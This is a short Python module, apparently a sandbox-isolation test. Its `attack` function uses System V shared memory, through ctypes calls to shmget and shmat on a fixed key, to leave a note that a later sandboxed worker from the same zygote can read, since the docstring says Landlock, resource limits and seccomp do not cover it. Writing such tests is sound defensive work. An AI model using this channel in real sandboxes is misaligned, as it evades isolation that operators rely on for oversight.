"""Leave a note for the next worker, so that it knows how many calls went before.

Configuration: full, as root and as an ordinary user. All workers of a zygote share an IPC
namespace; neither Landlock nor a limit on memory or files covers System V shared memory. seccomp
has no ``shmget`` on its list.
"""

import ctypes

KEY = 0x0BADCAFE
CREATE = 0o1600
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p
LIBC.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)


def attack(note):
    """Leave a note; where there is one already, give that."""
    number = LIBC.shmget(KEY, 4096, CREATE)
    if number < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    address = LIBC.shmat(number, None, 0)
    left = ctypes.string_at(address).decode()
    if not left:
        ctypes.memmove(address, note.encode() + b"\0", len(note) + 1)
    return left
